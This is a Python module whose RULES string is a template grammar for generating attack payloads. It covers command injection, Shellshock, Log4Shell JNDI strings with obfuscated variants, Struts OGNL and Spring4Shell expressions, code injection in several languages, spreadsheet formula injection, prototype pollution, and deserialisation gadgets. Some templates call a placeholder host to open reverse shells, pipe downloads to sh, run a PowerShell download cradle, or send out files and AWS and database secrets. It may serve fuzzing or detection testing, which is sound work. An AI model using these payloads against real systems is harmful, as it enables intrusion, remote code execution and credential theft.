"""Attacks that run something: shell commands, Java and script expressions, deserialisation."""

RULES = r"""
word_command = id whoami ls dir pwd env ps uname ifconfig ipconfig hostname netstat set date who w last
simple:
  «w»;«word_command»
  «w»; «word_command»
  «w»|«word_command»
  «w»| «word_command»
  «w»&&«word_command»
  «w»&& «word_command»
  «w»||«word_command»
  «w»`«word_command»`
  «w»$(«word_command»)
  «w»«nl»«word_command»
  «n»;«word_command»
  «n»|«word_command»
cmdi:
  «simple»
  «simple»
  «simple»
  «simple»
  «simple»
  «simple»
  ;«cmd»
  ;«cmd»
  ; «cmd»
  ; «cmd»;
  ;«cmd»;
  ;«cmd»#
  |«cmd»
  | «cmd»
  |«cmd»|
  || «cmd»
  ||«cmd»||
  &«cmd»
  &«cmd»&
  & «cmd» &
  && «cmd»
  &&«cmd»&&
  `«cmd»`
  $(«cmd»)
  >(«cmd»)
  <(«cmd»)
  «w»;«cmd»
  «w»; «cmd»
  «w»|«cmd»
  «w»||«cmd»
  «w»&«cmd»
  «w» && «cmd»
  «w»`«cmd»`
  «w»$(«cmd»)
  «w»|«cmd»#
  «w».txt;«cmd»
  «ip»;«cmd»
  127.0.0.1;«cmd»
  127.0.0.1 | «cmd»
  «ip» && «cmd»
  «n»;«cmd»
  «n»|«cmd»
  «n»%0a«cmd»
  %0a«cmd»%0a
  %0A«cmd»
  %0d%0a«cmd»
  «nl»«cmd»«nl»
  «w»«nl»«cmd»
  ';«cmd»;'
  '; «cmd» #
  ';«cmd»'
  ";«cmd»;"
  "; «cmd» #
  "|«cmd»||
  '|«cmd»||'
  '&«cmd»&'
  "&&«cmd»&&"
  '`«cmd»`'
  "$(«cmd»)"
  ');«cmd»;//
  a;«cmd»;a
  ^«cmd»
  \n«cmd»
  ;${IFS}«cmd»
  ;{echo,«w»}
  ;«bin»id|
  ;$(printf '«w»')
  |«cmd»;sleep${IFS}«nz»
  & ping -n «nz» 127.0.0.1 &
  | timeout /t «nz»
  ;system('«cmd»')
  ;exec('«cmd»')
  cat /«nixfile»
  «bin»«cmd»
  «bin»cat /«nixfile»|
  cmd /c «cmd»
  cmd.exe /c «cmd»
  /bin/sh -c «cmd»
  /bin/bash -c "«cmd»"
  powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://«host»/«w»')"
  powershell.exe -EncodedCommand «alnum(40)»
  wget http://«host»/«w»
  curl http://«host»/«w»|sh
  curl -d @/«nixfile» http://«host»
  nc -e /bin/sh «ip» 4444
  rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc «ip» «digit(4)» >/tmp/f
  echo «w»>«w».php
  () { :; }; echo «w»
  $(echo «w»|rev)
  $((«n»+«n»))
  $SHELL -c «w»
  ${PATH:0:1}bin${PATH:0:1}id
  `id`
  $(id)
  $(whoami)
  |id
  ;id;
  ;ls
  ;pwd
  |dir
  & whoami
  || ping -i «digit(2)» 127.0.0.1 ; x || ping -n «digit(2)» 127.0.0.1 &
  "|«cmd»|rem
  "&«cmd»&rem
  |«cmd»|rem «sp»
  &«cmd»&rem
  '&«cmd»&rem'
  "&del«tab»«w»«tab»#
  ;del«tab»«w»«tab»#
  "&rm,«w»&rem,
  |ping;-w;«digit(4)»;-n;1;«ip»|rem;
  &ping,-n,1,«ip»&rem,
  && «cmd» && echo «w»
  ;«cmd» 2>&1
  ;«cmd» > /dev/null
  ;«cmd»;echo «w»
  «w»%26«cmd»
  «w»%3B«cmd»
  --output=/«nixfile»
  -oProxyCommand=«cmd»
  --use-askpass=«cmd»
  --upload-pack=«cmd»
  «w»' -oQ/tmp/ -X/var/www/«w».php '
shellshock:
  () { :; }; «cmd»
  () { :;}; «bin»«cmd»
  () { :;};«bin»bash -c "«cmd»"
  () { :; }; echo; echo; /bin/bash -c '«cmd»'
  () { ignored;};/bin/bash -i >& /dev/tcp/«host»/80 0>&1
  () { _; } >_[$($())] { «cmd»; }
  () { :; }; echo "«w»: " $(«cmd»)
  () { foo;};echo; /bin/cat /«nixfile»
  () { (a)=>\' «bin»«cmd»
  { :;}; «cmd»
lookup = ldap ldap ldap rmi dns ldaps iiop nis nds corba ${lower:l}dap ${::-l}dap ${::-l}${::-d}${::-a}${::-p} l${lower:D}ap ${::-r}mi ${lower:l}${lower:d}a${lower:p} ${env:«w»:-l}dap
jndi = jndi jndi jndi ${lower:j}ndi ${lower:j}${lower:n}${lower:d}i ${::-j}${::-n}${::-d}${::-i} ${::-j}ndi j${upper:n}di jn${env:«upper(2)»:-d}i ${lower:jnd}${lower:i} ${${::-j}ndi ${env:«w»:-j}ndi ${sys:«w»:-j}ndi ${date:'j'}${date:'n'}${date:'d'}${date:'i'} j${k8s:k5:-ND}i ${upper:j}ndi jnd${upper:ı} ${lower:${lower:jndi}} j${::-nD}i
log4shell:
  ${«jndi»:«lookup»://«host»/«w»}
  ${«jndi»:«lookup»://«host»/«w»}
  ${«jndi»:«lookup»://«host»/«w»}
  ${«jndi»:«lookup»://«ip»:1389/«w»}
  ${«jndi»:«lookup»://«ip»:1389/Basic/Command/Base64/«cmd|b64»}
  ${«jndi»:«lookup»://«host»/${env:«envvar»}}
  ${«jndi»:«lookup»://${hostName}.«host»/a}
  ${«jndi»:«lookup»://${sys:java.version}.«host»/«w»}
  ${«jndi»:«lookup»://127.0.0.1#«host»/«w»}
  ${«jndi»:«lookup»:${::-/}/«host»/«w»}
  ${«jndi»«lookup»://«host»/«w»}
  «w»${«jndi»:«lookup»://«host»:1389/«w»}«w»
  «w» ${«jndi»:«lookup»://«host»/«w»}
  $%7B«jndi»:«lookup»://«host»/«w»%7D
  %24%7Bjndi:«lookup»://«host»/«w»%7D
  ${env:«envvar»}
  ${sys:«w».«w»}
  ${java:version}
  ${script:javascript:java.lang.Runtime.getRuntime().exec('«cmd»')}
  ${url:UTF-8:http://«host»/}
  ${dns:address:«host»}
  ${ctx:loginId}${jndi:ldap://«host»}
envvar = AWS_SECRET_ACCESS_KEY PATH USER HOSTNAME HOME JAVA_VERSION AWS_ACCESS_KEY_ID DB_PASSWORD
java:
  %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='«cmd»').(#p=new java.lang.ProcessBuilder({'/bin/bash','-c',#cmd})).(#p.start())}
  %{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('«w»',«n»*«n»)}.multipart/form-data
  %{(#a=@java.lang.Runtime@getRuntime().exec('«cmd»'))}
  %{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{"«cmd»"})).start()}
  ${(#_memberAccess["allowStaticMethodAccess"]=true,#a=@java.lang.Runtime@getRuntime().exec('«cmd»').getInputStream())}
  ${#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,@java.lang.Runtime@getRuntime().exec('«cmd»')}
  redirect:${#a=new java.lang.ProcessBuilder(new java.lang.String[]{'«cmd»'}).start()}
  action:%{#context["xwork.MethodAccessor.denyMethodExecution"]=false}
  method:#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#res=@org.apache.struts2.ServletActionContext@getResponse()
  ('\u0023_memberAccess[\'allowStaticMethodAccess\']')(meh)=true
  debug=browser&object=(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)
  debug=command&expression=#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS
  class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{«w»}i
  class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT
  class.module.classLoader.resources.context.parent.pipeline.first.prefix=«w»
  class.module.classLoader.URLs[0]=«n»
  class.classLoader.resources.dirContext.docBase=//«ip»/«w»
  class['module']['classLoader']['resources']['context']['parent']['appBase']=./
  T(java.lang.Runtime).getRuntime().exec("«cmd»")
  T(org.springframework.util.StreamUtils).copy(T(javax.script.ScriptEngineManager))
  #{T(java.lang.Runtime).getRuntime().exec(new String[]{"«cmd»"})}
  new String(T(java.util.Base64).getDecoder().decode('«cmd|b64»'))
  spring.cloud.function.routing-expression:T(java.lang.Runtime).getRuntime().exec("«cmd»")
  @java.lang.Runtime@getRuntime().exec("«cmd»")
  java.lang.Runtime.getRuntime().exec("«cmd»")
  Class.forName("java.lang.Runtime").getMethod("exec",String.class)
  queryString=\u0027%2b#{\u0022\u0022[\u0022class\u0022]}%2b\u0027
  \u0027+{Class.forName(\u0027javax.script.ScriptEngineManager\u0027).newInstance().getEngineByName(\u0027JavaScript\u0027).eval(\u0027«cmd»\u0027)}+\u0027
  new javax.script.ScriptEngineManager().getEngineByName("nashorn").eval("java.lang.Runtime.getRuntime().exec('«cmd»')")
  "«cmd»".execute().text
  def p = "«cmd»".execute(); p.text
  println "«cmd»".execute().text
  @groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec("«cmd»")}) def x
  {"script_fields":{"x":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"«cmd»\").getText()"}}}
  <java version="1.8.0" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>«cmd»</string></void></array><void method="start"/></void></java>
  <work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><void class="java.lang.ProcessBuilder"></void></java></work:WorkContext>
code:
  __import__('os').system('«cmd»')
  __import__("os").popen("«cmd»").read()
  __import__('subprocess').check_output('«cmd»',shell=True)
  import os; os.system('«cmd»')
  import os;os.popen("«cmd»").read()
  os.popen('«cmd»')
  os.system("«cmd»")
  exec("import os;os.system('«cmd»')")
  eval(compile('import os','','exec'))
  ';import os;os.system('«cmd»');#
  ().__class__.__bases__[0].__subclasses__()
  open('/«file»').read()
  str(open('/«file»').read())
  globals()['__builtins__']
  require('child_process').exec('«cmd»')
  require('child_process').execSync('«cmd»').toString()
  require("fs").readFileSync("/«file»")
  res.end(require('fs').readdirSync('.').toString())
  process.mainModule.require('child_process').execSync('«cmd»')
  global.process.mainModule.require('child_process').spawnSync('«cmd»')
  this.constructor.constructor('return process')().mainModule.require('child_process').execSync('«cmd»')
  (function(){return process.env})()
  process.exit()
  while(1){}
  eval('«js»')
  eval(String.fromCharCode(«digit(2)»,«digit(3)»))
  new Function('return process')()
  ');process.exit();//
  Kernel.exec('«cmd»')
  Kernel.system("«cmd»")
  %x(«cmd»)
  IO.popen('«cmd»').read
  eval("`«cmd»`")
  #{`«cmd»`}
  open("|«cmd»").read
  system("«cmd»")
  exec("«cmd»")
  perl -e 'system("«cmd»")'
  open(F,"|«cmd»")
  Runtime.getRuntime().exec("«cmd»")
  System.Diagnostics.Process.Start("cmd","/c «cmd»")
  os.execute("«cmd»")
  io.popen("«cmd»"):read("*a")
  =cmd|'/C «cmd»'!A0
  =cmd|' /C calc'!A0
  @SUM(1+1)*cmd|' /C calc'!A0
  +cmd|'/c «cmd»'!A1
  =HYPERLINK("http://«host»/?x="&A1,"«w»")
  =IMPORTXML("http://«host»/","//a")
  =WEBSERVICE("http://«host»/")
  \input{/«nixfile»}
  \immediate\write18{«cmd»}
  \include{/«nixfile»}
  eval(`«cmd»`)
prototype:
  {"__proto__": {"«w»": «n»}}
  {"__proto__":{"isAdmin":true}}
  {"__proto__":{"shell":"node","NODE_OPTIONS":"--require /proc/self/environ"}}
  __proto__[«w»]=«w»
  __proto__[isAdmin]=true
  __proto__.«w»=«n»
  constructor[prototype][«w»]=«n»
  constructor.prototype.«w»=«w»
  «w»[__proto__][«w»]=«n»
  «w»[constructor][prototype][admin]=1
  {"«w»":{"__proto__":{"polluted":"«w»"}}}
  __proto__[toString]=«w»
  __proto__[innerHTML]=<img/src/onerror=«js»>
  #__proto__[srcdoc]=<script>«js»</script>
deserialisation:
  O:8:"stdClass":«nz»:{s:4:"«w»";i:«n»;}
  O:«digit»:"«w»":1:{s:«nz»:"«w»";s:2:"id";}
  a:2:{i:0;O:«digit»:"«w»":1:{s:4:"data";s:«nz»:"«cmd»";}i:1;s:4:"«w»";}
  a:1:{i:0;O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}}
  O:40:"Illuminate\Broadcasting\PendingBroadcast":2:{s:9:"*events";O:15:"Faker\Generator":1:{}}
  O:32:"Monolog\Handler\SyslogUdpHandler":1:{s:9:"*socket";O:29:"Monolog\Handler\BufferHandler":7:{}}
  C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}
  }__test|O:21:"JDatabaseDriverMysqli":3:{s:4:"«w»";}
  rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA«alnum(20-60)»
  rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlc«alnum(20-60)»
  rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1«alnum(20-60)»
  rO0ABXNyAC5qYXZheC5tYW5hZ2VtZW50LkJhZEF0dHJpYnV0ZVZhbHVlRXhwRXhjZXB0aW9u«alnum(20-60)»
  AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3I«alnum(20-60)»
  {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://«host»/«w»","autoCommit":true}
  {"@type":"java.net.Inet4Address","val":"«host»"}
  {"@type":"java.lang.AutoCloseable","@type":"com.mysql.jdbc.JDBC4Connection"}
  {"b":{"@type":"org.apache.xbean.propertyeditor.JndiConverter","AsText":"rmi://«host»/«w»"}}
  {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$values":["cmd","/c «cmd|js»"]}}
  ["org.springframework.context.support.ClassPathXmlApplicationContext","http://«host»/«w».xml"]
  ["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://«host»/«w»"}]
  !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://«host»/"]]]]
  !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://«host»/«w»', autoCommit: true}
  !!python/object/apply:os.system ["«cmd»"]
  !!python/object/new:os.system ["«cmd»"]
  !!python/object/apply:subprocess.Popen [["«cmd»"]]
  !!ruby/object:Gem::Installer {i: x}
  --- !ruby/object:Gem::Requirement
  !!map {? !!str "goal" : !!python/object/apply:subprocess.check_output ["«cmd»"]}
  {"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('«cmd»')}()"}
  {"«w»":"_$$ND_FUNC$$_function (){«js|js»}()"}
  cos«nl»system«nl»(S'«cmd»'«nl»tR.
  csubprocess«nl»Popen«nl»p0«nl»(S'«cmd»'«nl»p1«nl»tp2«nl»Rp3«nl».
  gASV«alnum(10)»AAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU«alnum(20)»
  <java version="1.7.0_80" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><void method="start"/></object></java>
  <sorted-set><string>«w»</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>«cmd»</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>
  <map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags></jdk.nashorn.internal.objects.NativeString></entry></map>
"""
